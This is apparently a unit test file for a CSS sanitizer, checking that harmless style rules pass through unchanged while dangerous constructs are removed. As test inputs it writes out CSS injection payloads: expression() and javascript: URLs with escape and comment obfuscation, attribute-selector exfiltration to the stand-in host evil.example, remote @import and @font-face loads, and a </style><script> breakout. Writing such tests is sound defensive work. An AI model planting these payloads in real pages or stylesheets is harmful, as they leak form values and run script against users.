/** The CSS policy of style resources (docs/decisions/066). */
import { describe, expect, it } from 'vitest';
import { sanitizeCss } from './sanitize-css';

describe('sanitizeCss', () => {
  it('keeps ordinary rules as they are', () => {
    const css = '.login{background:url(/style-assets/bg.png) center/cover;font-family:"Brand",sans-serif}\n@media (max-width:600px){.login{padding:8px}}';
    expect(sanitizeCss(css)).toBe(css);
  });

  it.each([
    ['a{width:expression(alert(1))}', 'a{}'],
    ['a{width:EXPRESSION (alert(1))}', 'a{}'],
    ['a{background:url(javascript:alert(1))}', 'a{}'],
    ['a{background:url("JavaScript:alert(1)")}', 'a{}'],
    ['a{background:url(java\\73 cript:alert(1))}', 'a{}'],
    ['a{background:url(java\\\nscript:alert(1))}', 'a{}'],
    ['a{background:url(vbscript:x)}', 'a{}'],
    ['a{-moz-binding:url(x.xml#y)}', 'a{}'],
    ['a{behavior:url(x.htc)}', 'a{}'],
    ['a{width:expr/**/ession(alert(1))}', 'a{}'],
  ])('drops %s', (css, out) => {
    expect(sanitizeCss(css)).toBe(out);
  });

  it('keeps addresses of this site and inline data, and drops every statement that would load from another host', () => {
    const local = '.a{background:url(/style-assets/bg.png)}.b{background:url("img/x.png")}.c{background:url(data:image/png;base64,AAAA)}.d{background-image:image-set("/style-assets/a.png" 1x)}';
    expect(sanitizeCss(local)).toBe(local);
    const hostile = [
      'input[value^="a"]{background:url(https://evil.example/a)}',
      'input[value^="a"]{background:url("//evil.example/a")}',
      "a{background:url('HTTPS://evil.example/a')}",
      'a{background:url(https:evil.example/a)}',
      // Two escaped backslashes: the URL parser reads them as two slashes.
      'a{background:url(\\\\\\\\evil.example/a)}',
      'a{background:url(/\\\\evil.example/a)}',
      'a{background:url(ht\\74ps://evil.example/a)}',
      'a{background-image:image-set("https://evil.example/a" 1x)}',
      'a{background-image:-webkit-image-set(\'//evil.example/a\' 1x)}',
      '@font-face{font-family:x;src:url(https://evil.example/f.woff)}',
      'a{background:url(https://evil.example/a',
    ];
    for (const css of hostile) expect(sanitizeCss(css), css).not.toContain('evil');
  });

  it('keeps @import of this site only', () => {
    expect(sanitizeCss('@import url(/style-assets/base.css);')).toBe('@import url(/style-assets/base.css);');
    expect(sanitizeCss("@import '/style-assets/base.css';")).toBe("@import '/style-assets/base.css';");
    for (const css of ['@import url(https://evil.example/x.css);', '@import "//evil.example/x.css";', '@import url(data:text/css,a{});', '@\\69mport url(https://evil.example/x.css);', '@import url(/x.css) screen; @import url(javascript:1);']) {
      expect(sanitizeCss(css)).not.toMatch(/evil|data:|javascript/);
    }
  });

  it('cannot close the style element it is put in', () => {
    expect(sanitizeCss('a{}</style><script>alert(1)</script>')).not.toContain('</style');
    expect(sanitizeCss('a{}</STYLE >')).not.toMatch(/<\/style/i);
  });
});
